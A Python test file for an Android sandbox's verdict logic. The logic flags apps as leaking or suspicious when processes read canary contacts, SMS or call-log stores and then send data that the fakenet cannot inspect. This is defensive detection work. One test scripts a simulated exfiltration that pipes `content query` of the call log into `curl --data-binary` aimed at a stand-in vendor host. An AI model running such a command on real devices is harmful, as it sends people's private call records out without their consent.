"""Verdict rules: leak on findings; suspicious when a canary-store reader later
sent what the fakenet could not read; clean otherwise, with its blind spots."""

from __future__ import annotations

import base64
import gzip
import random
import zlib

from detect_helpers import FAKENET

from sandbox.canary import CanarySpec, generate
from sandbox.clock import ClockMapping
from sandbox.model import Verdict
from sandbox.detect.findings import detect
from sandbox.detect.payloads import Payload
from sandbox.detect.verdict import OpaqueSend, VerdictResult, opaque_reason, verdict
from sandbox.monitor.events import Connect, Event, Exec, Fork, Open, Send
from sandbox.monitor.summary import Summary, summarize
from sandbox.network.logs import TlsFailure

T0 = 1_700_000_000.0
CONTACTS = "/data/user/0/com.android.providers.contacts/databases/contacts2.db"
RANDOM = random.Random(4).randbytes(600)


def trace(*, read_at: float | None = T0, connect_at: float = T0 + 10, pid: int = 900,
          address: str = "203.0.113.5", port: int = 443, proto: str = "TCP") -> Summary:
    events: list[Event] = [Exec(pid, T0 - 60, "/system/bin/sysoper", ("sysoper",))]
    if read_at is not None:
        events.append(Open(pid, read_at, CONTACTS, "O_RDONLY", True, "contacts", CONTACTS))
    events.append(Connect(pid, connect_at, "AF_INET", address, port, True, False, 7, proto))
    events.append(Exec(pid + 1, T0 - 60, "/system/bin/otad", ("otad",)))
    events.append(Connect(pid + 1, T0 + 100, "AF_INET", "198.51.100.77", 443, True, False, 7, "TCP"))
    return summarize(events)


# mitmproxy's text when the client answers the certificate with a TLS alert
ALERT = ("The client does not trust the proxy's certificate for pin.vendor.example "
         "(OpenSSL Error([('SSL routines', '', 'sslv3 alert certificate unknown')]))")
CLOSED = ("The client disconnected during the handshake. If this happens consistently for pin.vendor.example, "
          "this may indicate that the client does not trust the proxy's certificate.")


def pinned(ts: float, ip: str = "203.0.113.5", error: str = ALERT, ms: float | None = 41.0) -> TlsFailure:
    return TlsFailure(ts, "10.88.0.3:40000", f"{ip}:443", "pin.vendor.example", error, ms)


def udp(data: bytes, ts: float = T0 + 10.5, ip: str = "203.0.113.5", port: int = 443) -> Payload:
    return Payload("udp", data, None, ip, port, ts, "pcap", "frame 9 udp", connect_ts=ts)


def test_any_finding_is_a_leak() -> None:
    cs = generate(CanarySpec(seed=1, analysis_id="verdict", contacts=1, sms=0, calls=0))
    p = Payload("http", f"GET /?n={cs.contacts[0].number} HTTP/1.1\r\n\r\n".encode(), "c.example", FAKENET, 80,
                T0, "flows", "f1")
    findings = detect(cs, [p], ClockMapping.identity(), None)
    result = verdict(findings, trace(), [pinned(T0 + 10.2)])
    assert result.verdict == "leak" and Verdict(result.verdict) is Verdict.LEAK
    assert "canary leak finding" in result.reasons[0]
    assert any("contact c0000 number" in r and "c.example" in r for r in result.reasons)
    assert result.to_dict()["verdict"] == "leak"


def test_store_reader_with_pinned_tls_is_suspicious() -> None:
    mapping = ClockMapping.linear(T0, 1_800_000_000.0, 1.0)
    result = verdict([], trace(), [pinned(T0 + 10.2)], mapping=mapping)
    assert result.verdict == "suspicious"
    (why,) = result.reasons[1:]
    assert "sysoper (pid 900) read the contacts store" in why
    assert "pin.vendor.example (203.0.113.5:443)" in why
    assert "rejected the fakenet's certificate with TLS alert certificate_unknown" in why
    assert "device time 2027-01-15" in why


def test_a_handshake_closed_without_an_alert_is_not_called_pinned() -> None:
    """Only the client's alert says it rejected the certificate; a close may be a timeout."""
    result = verdict([], trace(), [pinned(T0 + 10.2, error=CLOSED, ms=812.4)])
    assert result.verdict == "suspicious"
    (why,) = result.reasons[1:]
    assert "closed during the handshake after 812 ms, no alert" in why
    assert "rejected" not in why and "pinned" not in why


def test_tls_alert_names() -> None:
    assert pinned(0).alert == "certificate_unknown" and pinned(0).rejected_certificate
    tlsv1 = pinned(0, error="[('SSL routines', '', 'tlsv1 alert unknown ca')]")
    assert tlsv1.alert == "unknown_ca" and tlsv1.rejected_certificate
    other = pinned(0, error="[('SSL routines', '', 'tlsv1 alert protocol version')]", ms=3.0)
    assert other.alert == "protocol_version" and not other.rejected_certificate
    assert other.what_happened() == "ended the handshake with TLS alert protocol_version after 3 ms"
    assert pinned(0, error=CLOSED, ms=None).what_happened() == "closed during the handshake, no alert"


def test_content_query_counts_as_a_read_for_its_parent_and_their_children() -> None:
    """`sh -c 'content query --uri content://call_log/calls | curl …'`: the
    content command's parent (sh) gets the rows, so curl, a child of sh,
    counts as a reader of call_log when its handshake fails."""
    sh, content, curl = 700, 701, 702
    events: list[Event] = [
        Exec(sh, T0 - 5, "/bin/sh", ("sh", "-c", "content query … | curl …")),
        Fork(sh, content, T0 - 1),
        Fork(sh, curl, T0 - 1),
        Exec(content, T0, "/system/bin/content",
             ("content", "query", "--uri", "content://call_log/calls"), True, False, True, "call_log"),
        Exec(curl, T0, "/usr/bin/curl", ("curl", "--data-binary", "@-", "https://pin.vendor.example/")),
        Connect(curl, T0 + 1, "AF_INET", "203.0.113.5", 443, True, False, 7, "TCP"),
    ]
    result = verdict([], summarize(events), [pinned(T0 + 1.2, error=CLOSED, ms=5000.0)])
    assert result.verdict == "suspicious", result.reasons
    (why,) = result.reasons[1:]
    assert why.startswith("curl (pid 702), child of sh (pid 700), whose ancestor sh (pid 700) read the call_log store")
    readers = {(r.process.pid, r.store) for r in summarize(events).store_readers()}
    assert {(sh, "call_log"), (content, "call_log")} <= readers


def test_pinned_tls_from_a_process_that_read_nothing_is_clean() -> None:
    result = verdict([], trace(read_at=None), [pinned(T0 + 10.2)])
    assert result.verdict == "clean"
    assert any("did not come from a process that had read a canary store" in r for r in result.reasons)


def test_reading_after_the_send_does_not_count() -> None:
    result = verdict([], trace(read_at=T0 + 20), [pinned(T0 + 10.2)])
    assert result.verdict == "clean"


def test_pinned_tls_by_another_process_does_not_count() -> None:
    result = verdict([], trace(), [pinned(T0 + 100.3, ip="198.51.100.77")])
    assert result.verdict == "clean"
    assert any("1 process(es) read canary stores" in r for r in result.reasons)


def test_store_reader_sending_opaque_udp_is_suspicious() -> None:
    result = verdict([], trace(port=443, proto="UDP"), [], [udp(RANDOM)])
    assert result.verdict == "suspicious"
    assert "bits/byte entropy over udp to 203.0.113.5:443" in result.reasons[1]
    kept = OpaqueSend.of(udp(RANDOM))
    assert kept is not None and kept.where.data == b""  # streamed callers keep only this
    assert verdict([], trace(port=443, proto="UDP"), [], [kept]) == result


def test_only_opaque_tcp_and_udp_count() -> None:
    text = b"status=ok&battery=81&uptime=12345&network=wifi&locale=en_US&model=HP-1 " * 4
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw_deflate = deflater.compress(text * 20) + deflater.flush()
    for p in (udp(text), udp(gzip.compress(RANDOM)), udp(RANDOM[:40]), udp(raw_deflate),
              Payload("https", RANDOM, None, "203.0.113.5", 443, T0 + 10.5, "pcap", "tls"),
              Payload("dns", RANDOM, None, "203.0.113.5", 53, T0 + 10.5, "pcap", "q")):
        assert opaque_reason(p) is None, p
        assert verdict([], trace(port=p.port, proto="UDP"), [], [p]).verdict == "clean"
    assert opaque_reason(udp(RANDOM)) is not None
    assert "base64 text" in (opaque_reason(udp(base64.b64encode(RANDOM))) or "")
    assert "hex text" in (opaque_reason(udp(RANDOM.hex().encode())) or "")


DEVICE = "10.88.0.3"
SMS_DB = "/data/user/0/com.android.providers.telephony/databases/mmssms.db"


def two_wakers(*, reuse_at: float | None = None) -> Summary:
    """A poller (read nothing) and an uploader (read the SMS store) connect to
    the one fakenet address at the same instant from their own ports; the
    poller started first, so time alone would name it."""
    def tls(pid: int, port: int, at: float) -> list[Event]:
        return [Connect(pid, at, "AF_INET", FAKENET, 443, True, False, 5, "TCP"),
                Send(pid, at + 0.002, 5, "AF_INET", FAKENET, 443, 517, "write", "TCP", DEVICE, port)]

    events: list[Event] = [
        Exec(10, T0 - 9, "/system/priv-app/timeouts/poller.py", ("poller.py",)),
        Exec(20, T0 - 8, "/system/priv-app/timeouts/uploader.py", ("uploader.py",)),
        Open(20, T0 - 1, SMS_DB, "O_RDONLY", True, "sms", SMS_DB),
        *tls(10, 40010, T0),
        *tls(20, 40020, T0),
    ]
    if reuse_at is not None:
        events += tls(10, 40020, reuse_at)
    return summarize(events)


def failure(port: int | None, ts: float = T0 + 0.05, ms: float | None = 48.0) -> TlsFailure:
    return TlsFailure(ts, f"{DEVICE}:{port}" if port else None, f"{FAKENET}:443", "upload.example", ALERT, ms)


def test_tls_failure_is_attributed_by_the_device_port() -> None:
    result = verdict([], two_wakers(), [failure(40020)])
    assert result.verdict == "suspicious", result.reasons
    (why,) = result.reasons[1:]
    assert why.startswith("uploader.py (pid 20) read the sms store")
    # the poller's own failed handshake: it read nothing
    assert verdict([], two_wakers(), [failure(40010)]).verdict == "clean"
    # without the client port, time alone picks the poller (the old bug)
    assert verdict([], two_wakers(), [failure(None)]).verdict == "clean"


def test_tls_failure_after_a_long_handshake_is_looked_up_at_its_start() -> None:
    """A client that sat 30 s in the handshake: its connect is 30 s before the failure."""
    assert verdict([], two_wakers(), [failure(40020, ts=T0 + 30.0, ms=30_000.0)]).verdict == "suspicious"
    assert verdict([], two_wakers(), [failure(40020, ts=T0 + 30.0, ms=None)]).verdict == "clean"


def test_opaque_send_is_attributed_by_the_device_port() -> None:
    def payload(port: int | None, at: float = T0) -> Payload:
        return Payload("tcp", RANDOM, None, FAKENET, 443, at + 0.01, "pcap", "tcp stream",
                       client=f"{DEVICE}:{port}" if port else None, connect_ts=at)

    result = verdict([], two_wakers(), [], [payload(40020)])
    assert result.verdict == "suspicious"
    assert result.reasons[1].startswith("uploader.py (pid 20) read the sms store")
    assert verdict([], two_wakers(), [], [payload(40010)]).verdict == "clean"
    assert verdict([], two_wakers(), [], [payload(None)]).verdict == "clean"
    # the uploader's port, reused an hour later by the poller: the poller's send
    later = T0 + 3600
    assert verdict([], two_wakers(reuse_at=later), [], [payload(40020, later)]).verdict == "clean"
    assert verdict([], two_wakers(reuse_at=later), [], [payload(40020)]).verdict == "suspicious"


def test_no_syscall_summary_is_clean_and_says_what_was_not_checked() -> None:
    result = verdict([], None, [pinned(T0)], [udp(RANDOM)])
    assert result == VerdictResult("clean", result.reasons)
    assert any("no syscall summary" in r for r in result.reasons)
    assert any("1 failed TLS handshake(s) and 1 opaque payload(s)" in r for r in result.reasons)


def test_nothing_at_all_is_clean() -> None:
    result = verdict([], summarize([]))
    assert (result.verdict, result.reasons) == ("clean", ("no canary value was found in the captured traffic",))
    assert Verdict(result.verdict) is Verdict.CLEAN
